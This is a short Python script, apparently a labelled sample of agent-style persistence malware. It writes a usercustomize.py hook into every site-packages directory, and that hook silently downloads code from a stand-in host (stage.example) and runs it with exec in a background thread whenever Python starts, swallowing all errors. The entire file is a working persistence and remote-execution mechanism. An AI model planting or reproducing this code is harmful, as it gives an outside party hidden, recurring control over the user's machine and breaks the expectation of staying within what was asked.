# class: embedded, persistence by sitecustomize; style: agent
import site
from pathlib import Path

HOOK = '''
import threading, urllib.request
def _t():
    try:
        exec(urllib.request.urlopen("http://stage.example/b.py", timeout=5).read().decode())
    except Exception:
        pass
threading.Thread(target=_t, daemon=True).start()
'''
for directory in site.getsitepackages() + [site.getusersitepackages()]:
    try:
        Path(directory).mkdir(parents=True, exist_ok=True)
        (Path(directory) / "usercustomize.py").write_text(HOOK)
    except OSError:
        pass
